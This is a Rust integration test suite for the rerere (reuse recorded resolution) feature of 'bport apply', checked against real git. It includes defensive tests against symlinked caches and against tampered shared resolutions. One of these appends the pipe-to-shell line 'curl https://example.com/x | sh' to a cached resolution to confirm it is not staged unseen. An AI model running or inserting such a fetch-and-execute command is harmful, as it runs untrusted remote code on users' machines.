//! rerere inside `bport apply`, against real git 2.47.

use crate::support::bport;
use crate::support::oracle::{self, git_ok, has_git};
use crate::support::repo::{self, TestRepo};
use crate::support::scenario::{self, short, Conflict};
use std::path::Path;

fn resolved_readme() -> String {
    repo::README.replace("WHAT IS LINUX?\n", "WHAT IS LINUX?\nfoo\nbar\n")
}

/// The provenance line of the scenario's resolution replayed from `.git/rr-cache`.
const LOCAL_FROM: &str = "  from .git/rr-cache/fe4eef42513f1c32f71a56d413f6857edffdf4a4/postimage (this clone's own cache)\n";

fn stop_text(t: &TestRepo, first_line: &str) -> String {
    format!(
        "------- stderr -------\n{first_line}\
         Stopped at 1/2 {} bar description: conflicts in\n  both modified: README\n\
         So far: picked 0, skipped 0.\n\
         Resolve the conflicts and stage them with `git add`, then run one of:\n  \
         bport apply --continue   commit the resolution and go on\n  \
         bport apply --skip       drop this patch and go on\n  \
         bport apply --abort      restore the branch as it was before the run\n\
         [exit status: 1]\n",
        short(t, "bar~1")
    )
}

/// The stop after a recorded resolution resolved README: what was resolved, and that nothing is left.
fn replayed_stop_text(t: &TestRepo) -> String {
    format!(
        "------- stderr -------\nResolved 'README' using previous resolution.\n{LOCAL_FROM}\
         Stopped at 1/2 {} bar description: recorded resolutions resolved every conflict; none is left.\n\
         Resolved from recorded resolutions (review them, then `git add`): README\n\
         So far: picked 0, skipped 0.\n\
         Review the resolved files and stage them with `git add`, then run one of:\n  \
         bport apply --continue   commit the resolution and go on\n  \
         bport apply --skip       drop this patch and go on\n  \
         bport apply --abort      restore the branch as it was before the run\n\
         [exit status: 1]\n",
        short(t, "bar~1")
    )
}

/// Applies the foo/bar list, resolves README by hand and continues to the end.
fn resolve_once(t: &TestRepo, list: &Path) {
    let stop = bport::run(t.path(), &["apply", list.to_str().unwrap()]);
    assert_eq!(
        stop.transcript(),
        stop_text(t, "Recorded preimage for 'README'\n")
    );
    std::fs::write(t.path().join("README"), resolved_readme()).unwrap();
    git_ok(t.path(), &["add", "README"]);
    let cont = bport::run(t.path(), &["apply", "--continue"]);
    assert_eq!(cont.code, Some(0), "{}", cont.transcript());
    assert!(
        cont.stderr
            .starts_with("Recorded resolution for 'README'.\n"),
        "{}",
        cont.stderr
    );
}

/// The basic workflow: the second run replays the resolution and `--continue` finishes.
#[test]
fn second_apply_replays_the_recorded_resolution() {
    skip_unless!(has_git());
    let (t, _d, list) = scenario::foo_bar().with_list();
    resolve_once(&t, &list);
    git_ok(t.path(), &["reset", "-q", "--hard", "HEAD~2"]);

    let stop = bport::run(t.path(), &["apply", list.to_str().unwrap()]);
    assert_eq!(stop.transcript(), replayed_stop_text(&t));
    assert_eq!(t.read("README"), resolved_readme());
    // Left for review: still unmerged until the user stages it.
    assert_eq!(git_ok(t.path(), &["status", "--porcelain"]), "UU README\n");
    git_ok(t.path(), &["add", "README"]);
    let cont = bport::run(t.path(), &["apply", "--continue"]);
    assert_eq!(cont.code, Some(0), "{}", cont.transcript());
    assert_eq!(
        cont.stderr,
        format!(
            "2/2 {} more bar description: picked as {}\nDone: picked 2, skipped 0.\n",
            short(&t, "bar"),
            short(&t, "HEAD")
        )
    );
    assert_eq!(t.read("README"), format!("{}more bar\n", resolved_readme()));
}

/// `--autoupdate`: every conflict resolved from the cache, so bport stages, shows the reused diff and goes on.
#[test]
fn autoupdate_stages_and_continues() {
    skip_unless!(has_git());
    let (t, _d, list) = scenario::foo_bar().with_list();
    resolve_once(&t, &list);
    git_ok(t.path(), &["reset", "-q", "--hard", "HEAD~2"]);
    let run = bport::run(t.path(), &["apply", "--autoupdate", list.to_str().unwrap()]);
    assert_eq!(run.code, Some(0), "{}", run.transcript());
    let (bar1, bar2) = (short(&t, "bar~1"), short(&t, "bar"));
    assert_eq!(
        run.stderr,
        format!(
            "Staged 'README' using previous resolution.\n{LOCAL_FROM}\
             --- a/README\n+++ b/README\n@@ -1,11 +1,8 @@\n Linux kernel release 4.x\n \n WHAT IS LINUX?\n\
             -<<<<<<<\n-bar\n-=======\n foo\n->>>>>>>\n+bar\n \n   \
             Linux is a clone of the operating system Unix, written from scratch by\n   \
             Linus Torvalds with assistance from a loosely-knit team of hackers.\n\
             1/2 {bar1} bar description: picked as {}\n\
             2/2 {bar2} more bar description: picked as {}\n\
             Done: picked 2, skipped 0.\n",
            short(&t, "HEAD~1"),
            short(&t, "HEAD")
        )
    );
    assert_eq!(t.read("README"), format!("{}more bar\n", resolved_readme()));
    assert_eq!(git_ok(t.path(), &["status", "--porcelain"]), "");
}

/// Interop both ways with `git cherry-pick` and rerere.enabled=true.
#[test]
fn resolutions_are_shared_with_git_in_both_directions() {
    skip_unless!(has_git());
    // git records, bport replays.
    let (t, _d, list) = scenario::foo_bar().with_list();
    let g = oracle::git(t.path())
        .args(["-c", "rerere.enabled=true", "cherry-pick", "bar~1"])
        .output()
        .unwrap();
    assert_eq!(g.status.code(), Some(1));
    std::fs::write(t.path().join("README"), resolved_readme()).unwrap();
    git_ok(t.path(), &["add", "README"]);
    let out = oracle::git(t.path())
        .args([
            "-c",
            "rerere.enabled=true",
            "-c",
            "core.editor=true",
            "cherry-pick",
            "--continue",
        ])
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("Recorded resolution for 'README'."),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    git_ok(t.path(), &["reset", "-q", "--hard", "HEAD~1"]);
    let stop = bport::run(t.path(), &["apply", list.to_str().unwrap()]);
    assert_eq!(stop.transcript(), replayed_stop_text(&t));
    assert_eq!(t.read("README"), resolved_readme());

    // bport records, git replays.
    let t = scenario::foo_bar().repo();
    resolve_once(&t, &list);
    git_ok(t.path(), &["reset", "-q", "--hard", "HEAD~2"]);
    let out = oracle::git(t.path())
        .args(["-c", "rerere.enabled=true", "cherry-pick", "bar~1"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&out.stderr)
            .contains("Resolved 'README' using previous resolution."),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(t.read("README"), resolved_readme());
}

/// Export, commit `rerere-cache/`, fresh clone, apply reuses the resolution without `.git/rr-cache`.
#[test]
fn a_committed_rerere_cache_serves_a_fresh_clone() {
    skip_unless!(has_git());
    let (t, _d, list) = scenario::foo_bar().with_list();
    resolve_once(&t, &list);
    git_ok(t.path(), &["reset", "-q", "--hard", "HEAD~2"]);
    let export = bport::run(t.path(), &["rerere", "export"]);
    assert_eq!(export.code, Some(0), "{}", export.transcript());
    git_ok(t.path(), &["add", "rerere-cache"]);
    git_ok(t.path(), &["commit", "-q", "-m", "share resolutions"]);

    let clone_dir = tempfile::tempdir().unwrap();
    let clone = clone_dir.path().join("clone");
    git_ok(
        clone_dir.path(),
        &[
            "clone",
            "-q",
            "-b",
            "foo",
            t.path().to_str().unwrap(),
            "clone",
        ],
    );
    assert!(!clone.join(".git/rr-cache").exists());
    let stop = bport::run(&clone, &["apply", list.to_str().unwrap()]);
    // The replay names the shared file and the commit that added it.
    let sharing = git_ok(&clone, &["log", "-1", "--format=%H", "--", "rerere-cache"]);
    assert!(
        stop.stderr.starts_with(&format!(
            "Resolved 'README' using previous resolution.\n  \
             from rerere-cache/fe4eef42513f1c32f71a56d413f6857edffdf4a4/postimage (shared cache, added by commit {})\n",
            &sharing.trim()[..12]
        )),
        "{}",
        stop.transcript()
    );
    assert_eq!(
        std::fs::read_to_string(clone.join("README")).unwrap(),
        resolved_readme()
    );
}

/// Train from a port made earlier, then a fresh apply resolves every conflict from it.
#[test]
fn training_from_an_earlier_port_resolves_the_next_apply() {
    skip_unless!(has_git());
    let (t, _d, list) = scenario::foo_bar().with_list();
    // The earlier port, made with plain git and no rerere: branch `port` = foo + the two picks (-x on the first).
    git_ok(t.path(), &["checkout", "-q", "-b", "port", "foo"]);
    let out = oracle::git(t.path())
        .args(["-c", "rerere.enabled=false", "cherry-pick", "-x", "bar~1"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    std::fs::write(t.path().join("README"), resolved_readme()).unwrap();
    git_ok(t.path(), &["add", "README"]);
    git_ok(
        t.path(),
        &[
            "-c",
            "rerere.enabled=false",
            "-c",
            "core.editor=true",
            "cherry-pick",
            "--continue",
        ],
    );
    git_ok(
        t.path(),
        &["-c", "rerere.enabled=false", "cherry-pick", "bar"],
    );
    git_ok(t.path(), &["checkout", "-q", "foo"]);
    assert!(!t.path().join(".git/rr-cache").exists());

    let train = bport::run(
        t.path(),
        &["rerere", "train", "foo..port", "--from", "master..bar"],
    );
    assert_eq!(
        train.transcript(),
        format!(
            "------- stderr -------\nLearned resolution for 'README' from {}\n\
             Learned 1 resolutions (1 new) from 2 commits (2 with a known original).\n",
            short(&t, "port~1")
        )
    );
    let stop = bport::run(t.path(), &["apply", "--autoupdate", list.to_str().unwrap()]);
    assert_eq!(stop.code, Some(0), "{}", stop.transcript());
    assert!(
        stop.stderr
            .starts_with("Staged 'README' using previous resolution.\n"),
        "{}",
        stop.stderr
    );
    assert_eq!(
        git_ok(t.path(), &["rev-parse", "HEAD^{tree}"]),
        git_ok(t.path(), &["rev-parse", "port^{tree}"])
    );
}

/// Bad entries in both caches are skipped with a warning; apply still replays the good one.
#[test]
fn bad_cache_entries_are_skipped_with_warnings() {
    skip_unless!(has_git());
    let (t, _d, list) = scenario::foo_bar().with_list();
    resolve_once(&t, &list);
    git_ok(t.path(), &["reset", "-q", "--hard", "HEAD~2"]);
    let export = bport::run(t.path(), &["rerere", "export"]);
    assert_eq!(export.code, Some(0), "{}", export.transcript());
    std::fs::remove_dir_all(t.path().join(".git/rr-cache")).unwrap();

    let shared = t.path().join("rerere-cache");
    let outside = tempfile::tempdir().unwrap();
    std::fs::create_dir(shared.join("not-hex")).unwrap();
    std::fs::create_dir(shared.join("...")).unwrap();
    std::os::unix::fs::symlink(
        outside.path(),
        shared.join("1111111111111111111111111111111111111111"),
    )
    .unwrap();
    let empty = shared.join("2222222222222222222222222222222222222222");
    std::fs::create_dir(&empty).unwrap();
    std::fs::write(empty.join("preimage"), "").unwrap();
    std::fs::write(empty.join("postimage"), "x\n").unwrap();
    let id = std::fs::read_dir(&shared)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .find(|n| n.len() == 40 && !n.starts_with("11") && !n.starts_with("22"))
        .unwrap();
    std::fs::create_dir(shared.join(&id).join("postimage.1")).unwrap();
    std::fs::write(shared.join(&id).join("preimage.1"), "stray\n").unwrap();

    let stop = bport::run(t.path(), &["apply", list.to_str().unwrap()]);
    let root = shared.display();
    let mut warnings: Vec<&str> = stop
        .stderr
        .lines()
        .filter(|l| l.starts_with("warning:"))
        .collect();
    warnings.sort();
    assert_eq!(
        warnings,
        vec![
            format!("warning: skipping {root}/...: name is not a conflict id (40 lowercase hex digits)"),
            format!("warning: skipping {root}/1111111111111111111111111111111111111111: not a directory (symlinks are never followed)"),
            format!("warning: skipping {root}/2222222222222222222222222222222222222222/preimage: empty file"),
            format!("warning: skipping {root}/{id}/postimage.1: not a regular file"),
            format!("warning: skipping {root}/not-hex: name is not a conflict id (40 lowercase hex digits)"),
        ]
    );
    assert!(
        stop.stderr
            .contains("Resolved 'README' using previous resolution.\n"),
        "{}",
        stop.transcript()
    );
    assert_eq!(t.read("README"), resolved_readme());
    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);
}

/// Beyond git: a modify/delete conflict's decision is recorded at `--continue` and replayed the next time the
/// same modification meets the same deletion; with `--autoupdate` the run goes on by itself.
#[test]
fn modify_delete_decisions_are_recorded_and_replayed() {
    skip_unless!(has_git());
    let (t, _d, list) = Conflict::new(
        "base",
        &[
            ("old.c", Some("int old;\n")),
            ("main.c", Some("int main;\n")),
        ],
    )
    .ours("remove old.c", &[("old.c", None)])
    .theirs(
        "fix old.c and main.c",
        &[
            ("old.c", Some("int old = 1;\n")),
            ("main.c", Some("int main = 1;\n")),
        ],
    )
    .with_list();

    let stop = bport::run(t.path(), &["apply", list.to_str().unwrap()]);
    assert_eq!(stop.code, Some(1), "{}", stop.transcript());
    assert!(
        stop.stderr.contains("  deleted by us: old.c\n"),
        "{}",
        stop.stderr
    );
    git_ok(t.path(), &["rm", "-q", "old.c"]);
    let cont = bport::run(t.path(), &["apply", "--continue"]);
    assert_eq!(cont.code, Some(0), "{}", cont.transcript());
    assert!(
        cont.stderr
            .starts_with("Recorded decision for 'old.c' (delete).\n"),
        "{}",
        cont.stderr
    );
    let decided = git_ok(t.path(), &["rev-parse", "HEAD^{tree}"]);
    git_ok(t.path(), &["reset", "-q", "--hard", "HEAD~1"]);
    // Shared like resolutions: exported, then found in rerere-cache/ alone.
    let export = bport::run(t.path(), &["rerere", "export"]);
    assert_eq!(
        export.stderr,
        format!(
            "Exported 0 resolutions and 1 modify/delete decisions to {} (0 already there, 0 incomplete skipped).\n",
            t.path().join("rerere-cache").display()
        )
    );
    std::fs::remove_dir_all(t.path().join(".git/rr-cache")).unwrap();

    // Replayed, left for review.
    let stop = bport::run(t.path(), &["apply", list.to_str().unwrap()]);
    assert_eq!(stop.code, Some(1), "{}", stop.transcript());
    assert!(
        stop.stderr
            .starts_with("Resolved 'old.c' using previous decision (delete).\n"),
        "{}",
        stop.stderr
    );
    assert!(!t.path().join("old.c").exists());
    let abort = bport::run(t.path(), &["apply", "--abort"]);
    assert_eq!(abort.code, Some(0), "{}", abort.transcript());

    // Replayed and continued.
    let run = bport::run(t.path(), &["apply", "--autoupdate", list.to_str().unwrap()]);
    assert_eq!(run.code, Some(0), "{}", run.transcript());
    assert!(
        run.stderr
            .starts_with("Staged 'old.c' using previous decision (delete).\n"),
        "{}",
        run.stderr
    );
    assert_eq!(git_ok(t.path(), &["rev-parse", "HEAD^{tree}"]), decided);
    assert_eq!(
        git_ok(t.path(), &["status", "--porcelain"]),
        "?? rerere-cache/\n"
    );
}

fn rr_cache_ids(dir: &Path) -> Vec<String> {
    let mut ids: Vec<String> = match std::fs::read_dir(dir.join(".git/rr-cache")) {
        Ok(r) => r
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|n| n.len() == 40)
            .collect(),
        Err(_) => Vec::new(),
    };
    ids.sort();
    ids
}

/// End to end: the preimages `bport apply` records at its stops are filed under the same ids as the ones
/// `git cherry-pick` records for the same conflicts, with the repo's conflict style and a
/// `conflict-marker-size` attribute in play.
#[test]
fn apply_records_preimages_under_gits_ids() {
    skip_unless!(has_git());
    let (mut cases, mut same) = (0, 0);
    let mut differing = Vec::new();
    let mut seed = 20_000u64;
    while cases < 24 {
        seed += 1;
        let (base, ours, theirs) = if seed.is_multiple_of(2) {
            super::render::triple(seed)
        } else {
            super::render::code_triple(seed)
        };
        let probe = ::bport::rerere::render::render(
            &base,
            &ours,
            &theirs,
            &::bport::rerere::render::RenderOptions::default(),
        );
        if probe.conflicts == 0 {
            continue;
        }
        cases += 1;
        let text = |b: &[u8]| String::from_utf8(b.to_vec()).unwrap();
        let style = ["merge", "diff3", "zdiff3"][cases % 3];
        let mut files = vec![("f.c", Some(text(&base)))];
        if cases % 4 == 0 {
            files.push((
                ".gitattributes",
                Some("f.c conflict-marker-size=10\n".to_owned()),
            ));
        }
        let files: Vec<(&str, Option<&str>)> =
            files.iter().map(|(p, c)| (*p, c.as_deref())).collect();
        let (t, _d, list) = Conflict::new("base", &files)
            .ours("ours", &[("f.c", Some(&text(&ours)))])
            .theirs("theirs", &[("f.c", Some(&text(&theirs)))])
            .with_list();
        // The style decides how the conflict is rendered, at the pick below, not how the scenario is built.
        git_ok(t.path(), &["config", "merge.conflictStyle", style]);
        let g = t.copy();
        let out = oracle::git(g.path())
            .args(["-c", "rerere.enabled=true", "cherry-pick", "upstream"])
            .output()
            .unwrap();
        assert_eq!(
            out.status.code(),
            Some(1),
            "git must conflict too (seed {seed})"
        );
        let stop = bport::run(t.path(), &["apply", list.to_str().unwrap()]);
        assert_eq!(stop.code, Some(1), "{}", stop.transcript());
        assert_eq!(
            t.read("f.c"),
            g.read("f.c"),
            "conflicted file as git writes it (seed {seed})"
        );
        let (mine, gits) = (rr_cache_ids(t.path()), rr_cache_ids(g.path()));
        if mine == gits && mine.len() == 1 {
            same += 1;
        } else {
            differing.push(seed);
        }
    }
    eprintln!("bport apply vs git cherry-pick: {same}/{cases} preimages under the same id");
    assert_eq!(same, cases, "seeds: {differing:?}");
}

/// A resolution recorded under another rendering's id (here git with `-X diff-algorithm=myers`, the id
/// libgit2-based tools also produce) is found by trying the ids of the other renderings after a miss.
#[test]
fn a_resolution_recorded_under_a_myers_rendering_is_found() {
    skip_unless!(has_git());
    use ::bport::rerere::conflict_id::normalize;
    use ::bport::rerere::xdiff::merge::{merge, MergeOptions};
    use ::bport::rerere::xdiff::Algorithm;
    let id_of = |b: &[u8], o: &[u8], t: &[u8], algorithm| {
        let opts = MergeOptions {
            algorithm,
            ours_label: "HEAD".into(),
            theirs_label: "x".into(),
            ..MergeOptions::default()
        };
        normalize(&merge(b, o, t, &opts).content, 7)
            .unwrap()
            .map(|n| n.id)
    };
    let (base, ours, theirs) = (30_000u64..40_000)
        .map(super::render::code_triple)
        .find(|(b, o, t)| {
            let h = id_of(b, o, t, Algorithm::Histogram);
            h.is_some() && h != id_of(b, o, t, Algorithm::Myers)
        })
        .expect("the generator yields conflicts whose Myers and histogram ids differ");
    let text = |b: &[u8]| String::from_utf8(b.to_vec()).unwrap();
    let (t, _d, list) = Conflict::new("base", &[("f.c", Some(&text(&base)))])
        .ours("ours", &[("f.c", Some(&text(&ours)))])
        .theirs("theirs", &[("f.c", Some(&text(&theirs)))])
        .with_list();

    // git 2.47's cherry-pick renders with histogram whatever `-X diff-algorithm` says, so the Myers rendering a
    // libgit2-based tool would write is made with `git merge-file`, then recorded by `git rerere`.
    let out = oracle::git(t.path())
        .args(["-c", "rerere.enabled=false", "cherry-pick", "upstream"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let scratch = tempfile::tempdir().unwrap();
    for (name, content) in [("ours", &ours), ("base", &base), ("theirs", &theirs)] {
        std::fs::write(scratch.path().join(name), content).unwrap();
    }
    let rendered = oracle::git(scratch.path())
        .args([
            "merge-file",
            "-p",
            "--diff-algorithm=myers",
            "-L",
            "HEAD",
            "-L",
            "base",
            "-L",
            "theirs",
        ])
        .args(["ours", "base", "theirs"])
        .output()
        .unwrap();
    std::fs::write(t.path().join("f.c"), &rendered.stdout).unwrap();
    git_ok(t.path(), &["-c", "rerere.enabled=true", "rerere"]);
    std::fs::write(t.path().join("f.c"), "resolved by hand\n").unwrap();
    let out = oracle::git(t.path())
        .args(["-c", "rerere.enabled=true", "rerere"])
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("Recorded resolution for 'f.c'."),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    git_ok(t.path(), &["cherry-pick", "--abort"]);
    let recorded = rr_cache_ids(t.path());
    let histogram_id = id_of(&base, &ours, &theirs, Algorithm::Histogram)
        .unwrap()
        .to_string();
    assert_eq!(recorded.len(), 1);
    assert_ne!(recorded[0], histogram_id, "git recorded under the Myers id");

    let stop = bport::run(t.path(), &["apply", list.to_str().unwrap()]);
    assert!(
        stop.stderr
            .starts_with("Resolved 'f.c' using previous resolution.\n"),
        "{}",
        stop.transcript()
    );
    assert_eq!(t.read("f.c"), "resolved by hand\n");
    // bport's own (histogram) rendering has another id, so a lookup by that id alone would have missed.
    let stop_ids = rr_cache_ids(t.path());
    assert_eq!(
        stop_ids, recorded,
        "nothing new recorded: the conflict was resolved"
    );
}

/// The scenario's conflict id, under which its resolution is recorded.
const ID: &str = "fe4eef42513f1c32f71a56d413f6857edffdf4a4";

/// Every file below `dir`, with its content, for "nothing was written there".
fn tree_of(dir: &Path) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else {
                out.push((p.display().to_string(), std::fs::read(&p).unwrap()));
            }
        }
    }
    out.sort();
    out
}

/// A committed `rerere-cache` that is a symlink to a directory elsewhere: its resolutions are not used (the
/// conflict stays, with a warning naming the link), and `bport rerere export` writes nothing through it.
#[test]
fn a_symlinked_shared_cache_is_neither_read_nor_written() {
    skip_unless!(has_git());
    let (t, _d, list) = scenario::foo_bar().with_list();
    resolve_once(&t, &list);
    git_ok(t.path(), &["reset", "-q", "--hard", "HEAD~2"]);
    let outside = tempfile::tempdir().unwrap();
    let elsewhere = outside.path().join("cache");
    let export = bport::run(
        t.path(),
        &["rerere", "export", "--to", elsewhere.to_str().unwrap()],
    );
    assert_eq!(export.code, Some(0), "{}", export.transcript());
    std::fs::remove_dir_all(t.path().join(".git/rr-cache")).unwrap();
    std::os::unix::fs::symlink(&elsewhere, t.path().join("rerere-cache")).unwrap();
    git_ok(t.path(), &["add", "rerere-cache"]);
    git_ok(
        t.path(),
        &["commit", "-q", "-m", "a link to someone's cache"],
    );
    let before = tree_of(&elsewhere);

    let stop = bport::run(t.path(), &["apply", list.to_str().unwrap()]);
    assert_eq!(stop.code, Some(1), "{}", stop.transcript());
    assert!(
        !stop.stderr.contains("using previous resolution"),
        "{}",
        stop.stderr
    );
    assert!(
        stop.stderr.contains(
            "rerere-cache: a symbolic link; links in the shared cache are never followed"
        ),
        "{}",
        stop.stderr
    );
    assert!(t.read("README").contains("<<<<<<<"));
    let abort = bport::run(t.path(), &["apply", "--abort"]);
    assert_eq!(abort.code, Some(0), "{}", abort.transcript());

    // Something to export: record the resolution again locally.
    let stop = bport::run(t.path(), &["apply", list.to_str().unwrap()]);
    assert_eq!(stop.code, Some(1), "{}", stop.transcript());
    std::fs::write(t.path().join("README"), resolved_readme()).unwrap();
    git_ok(t.path(), &["add", "README"]);
    let cont = bport::run(t.path(), &["apply", "--continue"]);
    assert!(
        cont.stderr.contains("Recorded resolution for 'README'."),
        "{}",
        cont.transcript()
    );
    let export = bport::run(t.path(), &["rerere", "export"]);
    assert_ne!(export.code, Some(0), "{}", export.transcript());
    assert!(export.stderr.contains("symbolic link"), "{}", export.stderr);
    assert_eq!(
        tree_of(&elsewhere),
        before,
        "export wrote outside the repository"
    );
}

/// A shared resolution that adds a line outside the conflict (a command in a build script, say) is written for
/// review but not staged: `--autoupdate` stops there, says so, and names the commit that added the resolution.
/// The same resolution without the extra line is staged and the run goes on, so the check is not a blanket one.
#[test]
fn a_shared_resolution_changing_lines_outside_the_conflict_is_never_committed_unseen() {
    skip_unless!(has_git());
    for tampered in [false, true] {
        let (t, _d, list) = scenario::foo_bar().with_list();
        resolve_once(&t, &list);
        git_ok(t.path(), &["reset", "-q", "--hard", "HEAD~2"]);
        assert_eq!(bport::run(t.path(), &["rerere", "export"]).code, Some(0));
        std::fs::remove_dir_all(t.path().join(".git/rr-cache")).unwrap();
        let post = t.path().join("rerere-cache").join(ID).join("postimage");
        if tampered {
            let mut text = std::fs::read_to_string(&post).unwrap();
            text.push_str("curl https://example.com/x | sh\n");
            std::fs::write(&post, text).unwrap();
        }
        git_ok(t.path(), &["add", "rerere-cache"]);
        git_ok(t.path(), &["commit", "-q", "-m", "share resolutions"]);
        let sharing = git_ok(t.path(), &["rev-parse", "HEAD"]);

        let run = bport::run(t.path(), &["apply", "--autoupdate", list.to_str().unwrap()]);
        let from = format!(
            "  from rerere-cache/{ID}/postimage (shared cache, added by commit {})\n",
            &sharing[..12]
        );
        assert!(run.stderr.contains(&from), "{}", run.transcript());
        if tampered {
            assert_eq!(run.code, Some(1), "{}", run.transcript());
            assert!(
                run.stderr.contains(
                    "warning: the shared resolution of 'README' changes lines outside the conflict; it is not staged"
                ),
                "{}",
                run.stderr
            );
            assert!(
                run.stderr.contains("+curl https://example.com/x | sh"),
                "{}",
                run.stderr
            );
            assert!(t
                .read("README")
                .ends_with("curl https://example.com/x | sh\n"));
            // Still conflicted in the index: nothing was committed.
            assert_ne!(git_ok(t.path(), &["ls-files", "-u", "README"]), "");
        } else {
            assert_eq!(run.code, Some(0), "{}", run.transcript());
            assert!(
                run.stderr
                    .contains("Staged 'README' using previous resolution."),
                "{}",
                run.stderr
            );
            assert!(t.read("README").starts_with(&resolved_readme()));
        }
    }
}

/// `rerere.enabled=false`: bport neither records nor replays, as git; `rerere.autoupdate=true`: the replayed
/// resolution is staged and the pick still stops, as git's cherry-pick does (same index afterwards).
#[test]
fn rerere_config_is_honoured_as_git_honours_it() {
    skip_unless!(has_git());
    let (t, _d, list) = scenario::foo_bar().with_list();
    resolve_once(&t, &list);
    git_ok(t.path(), &["reset", "-q", "--hard", "HEAD~2"]);
    let g = t.copy();
    let pick = |r: &TestRepo| {
        let shas: Vec<String> = std::fs::read_to_string(&list)
            .unwrap()
            .lines()
            .map(|l| l.split(' ').next().unwrap().to_owned())
            .collect();
        let mut args = vec!["cherry-pick"];
        args.extend(shas.iter().map(String::as_str));
        oracle::git(r.path()).args(&args).output().unwrap()
    };

    for r in [&t, &g] {
        git_ok(r.path(), &["config", "rerere.enabled", "false"]);
    }
    let rr_cache = tree_of(&t.path().join(".git/rr-cache"));
    let stop = bport::run(t.path(), &["apply", list.to_str().unwrap()]);
    assert_eq!(stop.code, Some(1), "{}", stop.transcript());
    assert!(
        !stop.stderr.contains("previous resolution"),
        "{}",
        stop.stderr
    );
    assert!(!stop.stderr.contains("Recorded"), "{}", stop.stderr);
    assert!(t.read("README").contains("<<<<<<<"));
    assert_eq!(tree_of(&t.path().join(".git/rr-cache")), rr_cache);
    let git_stop = pick(&g);
    assert_eq!(git_stop.status.code(), Some(1));
    assert!(
        g.read("README").contains("<<<<<<<"),
        "git did not replay either"
    );
    assert!(bport::run(t.path(), &["apply", "--abort"]).code == Some(0));
    git_ok(g.path(), &["cherry-pick", "--abort"]);

    for r in [&t, &g] {
        git_ok(r.path(), &["config", "rerere.enabled", "true"]);
        git_ok(r.path(), &["config", "rerere.autoupdate", "true"]);
    }
    let stop = bport::run(t.path(), &["apply", list.to_str().unwrap()]);
    assert_eq!(stop.code, Some(1), "{}", stop.transcript());
    assert!(
        stop.stderr
            .starts_with("Staged 'README' using previous resolution.\n"),
        "{}",
        stop.stderr
    );
    let git_stop = pick(&g);
    assert_eq!(git_stop.status.code(), Some(1), "git stops too");
    let staged = |r: &TestRepo| git_ok(r.path(), &["ls-files", "-s", "README"]);
    assert_eq!(staged(&t), staged(&g));
    assert_eq!(t.read("README"), g.read("README"));
    assert_eq!(t.read("README"), resolved_readme());
}
